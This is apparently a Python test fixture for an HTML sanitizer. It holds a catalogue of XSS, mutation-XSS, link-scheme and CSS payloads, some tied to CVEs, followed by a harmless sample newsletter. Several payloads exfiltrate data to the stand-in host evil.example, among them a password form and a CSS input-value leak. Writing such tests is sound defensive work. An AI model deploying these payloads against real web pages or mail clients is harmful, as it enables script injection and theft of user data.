"""HTML bodies of attackers, each by the class of hole that it once went through.

Every script in them calls `pwned()`, every fetch goes to `evil.example`: a test that runs them in a
browser needs to watch for those two only.
"""

# ruff: noqa: E501 - an attack is read best on one line

HOSTILE: dict[str, str] = {
    # HTML XSS
    "script": "<script>pwned()</script>",
    "script in odd case": "<ScRiPt/x>pwned()</sCrIpT >",
    "script nested": "<scr<script>ipt>pwned()</scr</script>ipt>",
    "event handler": "<img src=x onerror=pwned()>",
    "event handler, no blanks": '<img/src="x"/onerror="pwned()">',
    "event handlers on allowed tags": "<div onclick=pwned() onmouseover=pwned()>x</div>",
    "body handler": "<body onload=pwned() onpageshow=pwned()>",
    "svg use (CVE-2023-5631)": (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='1' onerror='pwned()'/></svg>#x\"></use></svg>"
    ),
    "svg animate (CVE-2024-37383)": (
        '<svg><animate attributeName="href " values="javascript:pwned()" href="#a"/>'
        '<a id="a"><text y="20">click</text></a></svg>'
    ),
    "svg set (CVE-2025-68461)": '<svg><set attributeName="onmouseover" to="pwned()"/></svg>',
    "CDATA (CVE-2020-12625)": "<![CDATA[<]]]]><![CDATA[>script>pwned()</script>]]>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></table></math>",
    "math href": '<math href="javascript:pwned()">x</math>',
    "mXSS noscript": '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
    "mXSS template": "<template><img src=x onerror=pwned()></template>",
    "mXSS style in svg": "<svg></p><style><a id=\"</style><img src=1 onerror=pwned()>\">",
    "mXSS form": '<form><div></form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
    "mXSS textarea": "<textarea></textarea><img src=x onerror=pwned()></textarea>",
    "mXSS title": "<title>&lt;/title&gt;<img src=x onerror=pwned()></title>",
    "mXSS select": "<select><style></select><img src=x onerror=pwned()></style>",
    "mXSS backtick": "<p title=`><img src=x onerror=pwned()>`>",
    "mXSS attribute": "<p title=\"</p><img src=x onerror='pwned()'>\">x</p>",
    "mXSS xmp": "<xmp><p title=\"</xmp><img src=x onerror=pwned()>\"></xmp>",
    "mXSS comment": "<!--><img src=x onerror=pwned()>-->",
    "mXSS bogus comment": "<!- -><img src=x onerror=pwned()><!--!>--><p>",
    "mXSS entity": "&lt;img src=x onerror=pwned()&gt;",
    "mXSS double entity": "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
    "plaintext": "<plaintext><img src=x onerror=pwned()>",
    "desanitisation (CVE-2024-42009)": (
        '<body title="bgcolor=foo" name="bar style=animation-name:x onanimationstart=pwned() foo=bar">'
    ),
    "svg renamed": "<proton-svg><style><a title=\"</style><img src=x onerror=pwned()>\"></proton-svg>",
    # active content
    "iframe": "<iframe src=javascript:pwned() srcdoc='<script>parent.pwned()</script>'></iframe>",
    "object": "<object data='data:text/html,<script>pwned()</script>'></object><embed src=//evil.example>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "base": "<base href='http://evil.example/'><a href='/x'>x</a>",
    "link": "<link rel=stylesheet href=http://evil.example/a.css><link rel=dns-prefetch href=//evil.example>",
    "form": (
        "<form action=http://evil.example method=post><input name=password autofocus>"
        "<button formaction=http://evil.example>Log in</button></form>"
    ),
    "form attribute": "<button form=x formaction=javascript:pwned()>x</button><input form=x>",
    "details": "<details open ontoggle=pwned()>x</details>",
    "video": "<video src=http://evil.example/a><source onerror=pwned() src=x></video>",
    "audio": "<audio src=x onerror=pwned()></audio><bgsound src=http://evil.example/>",
    "marquee": "<marquee onstart=pwned()>x</marquee>",
    "dialog": "<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>",
    # links
    "javascript": '<a href="javascript:pwned()">x</a>',
    "javascript in case": '<a href="JaVaScRiPt:pwned()">x</a>',
    "javascript with tab": '<a href="java\tscript:pwned()">x</a>',
    "javascript with line end": '<a href="java&#10;script:pwned()">x</a>',
    "javascript with control": '<a href="&#1;javascript:pwned()">x</a>',
    "javascript in entities": '<a href="&#x6A&#x61;&#118;ascript&colon;pwned()">x</a>',
    "javascript behind blanks": '<a href=" \u3000javascript:pwned()">x</a>',
    "javascript after NUL": '<a href="java\0script:pwned()">x</a>',
    "vbscript": '<a href="vbscript:pwned()">x</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">x</a>',
    "data svg picture": '<img src="data:image/svg+xml,<svg onload=pwned()>">',
    "data svg that lies": '<img src="data:image/png;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4=">',
    "blob and file": '<a href="blob:https://x/1">x</a><a href="file:///etc/passwd">x</a>',
    "relative link": '<a href="/logout">x</a><a href="?x">x</a><a href="//evil.example">x</a>',
    "xlink": '<a xlink:href="javascript:pwned()">x</a>',
    "ping": '<a href="https://shop.example/" ping="http://evil.example/">x</a>',
    "target": '<a href="https://shop.example/" target=_top rel=opener>x</a>',
    # fetches
    "picture": '<img src="http://evil.example/a.gif">',
    "picture without scheme": '<img src="//evil.example/a.gif">',
    "picture of this site": '<img src="/mail/inbox">',
    "picture cid of none": '<img src="cid:none">',
    "srcset": '<img srcset="http://evil.example/a 1x"><picture><source srcset=//evil.example/b></picture>',
    "lowsrc": '<img lowsrc="http://evil.example/a" dynsrc="http://evil.example/b">',
    "background attribute": (
        '<body background=http://evil.example/a><table background="http://evil.example/b">'
        '<tr><td background="http://evil.example/c">x'
    ),
    "poster": "<video poster=http://evil.example/a></video><input type=image src=http://evil.example/b>",
    "cite": '<blockquote cite="http://evil.example/"><q cite="javascript:pwned()">x</q></blockquote>',
    # CSS
    "css url": '<p style="background:url(http://evil.example/a)">x',
    "css url quoted": "<p style='background-image:url(\"//evil.example/a\")'>x",
    "css url escaped": '<p style="background:u\\72l(http://evil.example/a)">x',
    "css url commented": '<p style="background:url/**/(http://evil.example/a)">x',
    "css url in entities": '<p style="background:&#117;rl(http://evil.example/a)">x',
    "css image-set": '<p style="background:image-set(\'http://evil.example/a\' 1x)">x',
    "css cross-fade": '<p style="background:-webkit-cross-fade(url(//evil.example/a),url(b),5%)">x',
    "css src": '<p style="background:src(\'http://evil.example/a\')">x',
    "css var (CVE-2026-48846)": '<p style="--a:url(//evil.example/a);background:var(--a)">x',
    "css env, attr": '<p style="width:env(x, url(//evil.example));content:attr(title)">x',
    "css expression": '<p style="width:expression(pwned());behavior:url(#x)">x',
    "css moz-binding": "<p style=\"-moz-binding:url('http://evil.example/a.xml#x')\">x",
    "css fixed (CVE-2026-35544)": (
        '<div style="position:fixed!important;top:0;left:0;width:100%;height:100%;z-index:9">x</div>'
    ),
    "css animation": '<p style="animation:x 1s;transition:all 1s" onanimationstart=pwned()>x',
    "css cursor": '<p style="cursor:url(http://evil.example/c),auto;list-style:url(//evil.example/l)">x',
    "css filter": "<p style=\"filter:url('http://evil.example/f');mask:url(//evil.example/m)\">x",
    "css content": '<style>p::before{content:url(http://evil.example/a)}</style><p>x',
    "style import": "<style>@import 'http://evil.example/a.css';@import url(//evil.example/b);</style>",
    "style import escaped": "<style>@\\69mport 'http://evil.example/a.css';</style>",
    "style font": "<style>@font-face{font-family:a;src:url(http://evil.example/f)}p{font-family:a}</style><p>x",
    "style namespace": "<style>@namespace url(http://evil.example/);@charset 'utf-7';</style>",
    "style exfiltration": "<style>input[value^=a]{background:url(http://evil.example/a)}</style>",
    "style has": "<style>:has(p){background:url(http://evil.example/a)}</style><p>x",
    "style supports": "<style>@supports (a:b){p{background:url(//evil.example/a)}}</style><p>x",
    "style nested": "<style>p{color:red;&{background:url(//evil.example/a)}}</style><p>x",
    "style in media": "<style>@media screen{@import '//evil.example/a';p{background:url(//evil.example/b)}}</style><p>x",
    "style ends early": "<style>p{font-family:'</style><img src=x onerror=pwned()>'}</style>",
    "style ends in a name": "<style>.a\\3c/style\\3e\\3cscript\\3epwned()\\3c/script\\3e{color:red}</style>",
    "style ends in a string": "<style>p{font-family:\"\\3c/style>\\3cimg src=x onerror=pwned()>\"}</style>",
    "style in comment": "<style><!-- p{background:url(//evil.example/a)} --></style><p>x",
    "style of bad strings": "<style>p{font-family:'\n;background:url(//evil.example/a)}</style><p>x",
    "style attribute breaks out": "<p style=\"font-family:'&quot; onclick=pwned() x=&quot;'\">x",
    "body style": "<body style='background:url(http://evil.example/a)' bgcolor='red;background:url(//evil.example/b)'>",
    "font face": "<font face=\"x';background:url(//evil.example/a)\" color='expression(pwned())'>x</font>",
    # confusion
    "lang and dir": "<html lang='\"><script>pwned()</script>' dir='\"><script>pwned()</script>'>x",
    "ids of the page": "<a id=location name=document>x</a><img name=body id=cookie>",
    "class of the page": "<p class='msg-frame toast \"><script>pwned()</script>'>x",
    "bidi title": '<a href="https://shop.example/" title="\u202egnp.exe">x</a>',
    "foreign in table": "<table><tr><td><svg><desc><td><script>pwned()</script></svg></table>",
    "table escape": "<table><a href=javascript:pwned()><tr><td></a><script>pwned()</script>",
    "NUL": "<scr\0ipt>pwned()</scr\0ipt><img \0src=x one\0rror=pwned()>",
    "never closed": '<img src=x onerror="pwned()',
    "never closed style": "<style>p{background:url(http://evil.example/a)",
    "rowspan": "<table>" + "<tr><td rowspan=65534 colspan=65534>x" * 50,
    "large numbers": '<p style="height:999999999px;margin:-99999999px;width:1e9px">x<hr width=99999999>',
}  # fmt: skip

NEWSLETTER = """\
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "x">
<html xmlns="http://www.w3.org/1999/xhtml" lang="en"><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Autumn</title>
<style type="text/css">
  @import url(https://fonts.shop.example/css);
  body { margin: 0; padding: 0; background-color: #f4f4f4 }
  #outlook a { padding: 0 }
  .card, .ExternalClass { border-radius: 8px; background: #ffffff url(https://img.shop.example/b.png) }
  .card h1 { font: bold 24px/1.2 Georgia, 'Times New Roman', serif }
  @media only screen and (max-width: 600px) { .card { width: 100% !important } }
  @media (prefers-color-scheme: dark) { .card { background: #000 } }
</style></head>
<body bgcolor="#eeeeee" style="margin:0">
<!--[if mso]><table><tr><td width="600"><![endif]-->
<div style="display:none;max-height:0;overflow:hidden">Save 20 % this week</div>
<table role="presentation" class="card" width="600" align="center" cellpadding="0" cellspacing="0"
  border="0" bgcolor="#ffffff" style="border-collapse:collapse;width:600px">
<tr><td align="center" valign="top" style="padding:24px 32px;color:#333333;mso-line-height-rule:exactly">
<a href="https://click.shop.example/?u=1&amp;c=2" target="_blank"><img src="https://img.shop.example/logo.png"
  width="200" height="60" alt="Shop" style="display:block"></a>
<h1>Autumn sale</h1>
<p style="font-family:Arial,Helvetica,sans-serif;font-size:16px;line-height:24px">Everything
<font color="#cc0000" size="4">20&nbsp;% off</font>.</p>
<img src="cid:hero@shop.example" width="536" alt="Coats">
<ul><li>Coats<li>Boots</ul>
<a href="mailto:help@shop.example">Help</a>
<img src="https://track.shop.example/open.gif" width="1" height="1">
</td></tr></table>
</body></html>
"""
